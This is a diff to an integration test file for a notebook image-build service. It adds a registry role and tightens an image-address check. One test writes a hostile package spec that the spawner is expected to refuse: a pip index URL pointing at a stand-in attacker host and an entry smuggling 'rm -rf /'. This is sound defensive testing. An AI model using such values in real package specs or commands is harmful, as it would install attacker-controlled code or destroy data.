@@ -10,7 +10,7 @@ import json
 import pytest
 
 from hubstack.images import user as ui
-from hubstack.registry import RegistryClient
+from hubstack.registry import USERS, RegistryClient
 from tests.integration.hubstack_e2e import hubstack
 
 pytestmark = [pytest.mark.integration, pytest.mark.slow]
@@ -72,7 +72,7 @@ def test_own_package_imports_in_the_kernel_and_the_second_start_builds_nothing(
     messages = [e.get("message", "") for e in events]
     assert any("Building your image: step" in m for m in messages), messages
     image = server_image(cfg, docker_client, "alice")
-    assert f"/{cfg.images.namespace}/user/alice@sha256:" in image
+    assert image.startswith(f"{cfg.registry.users_address}/{cfg.images.namespace}/user/alice@")
     out = alice.run_code(
         "import cowsay, subprocess\n"
         "print(cowsay.__name__)\n"
@@ -81,7 +81,7 @@ def test_own_package_imports_in_the_kernel_and_the_second_start_builds_nothing(
     assert out.splitlines()[0] == "cowsay"
     assert "uid=23001(alice) gid=23001(alice)" in out
 
-    registry = RegistryClient(cfg)
+    registry = RegistryClient(cfg, role=USERS)
     tags = registry.tags("user/alice")
     assert len(tags) == 1
     alice.stop()
@@ -141,11 +141,11 @@ def test_a_refused_spec_is_refused_at_start_and_builds_nothing(hub_stack, client
     # Written past the CLI, as a hand edit would be: the spawner validates it again.
     path.write_text("pip: ['--index-url https://evil.example/simple', 'requests; rm -rf /']\n")
     try:
-        before = RegistryClient(cfg).tags("user/bob")
+        before = RegistryClient(cfg, role=USERS).tags("user/bob")
         events = spawn_events(bob, profile="default")
         assert events[-1].get("failed"), events[-1]
         assert "pip options" in events[-1]["message"] and "markers" in events[-1]["message"]
-        assert RegistryClient(cfg).tags("user/bob") == before
+        assert RegistryClient(cfg, role=USERS).tags("user/bob") == before
         assert not bob.running()
     finally:
         ui.clear_env(cfg, "bob")
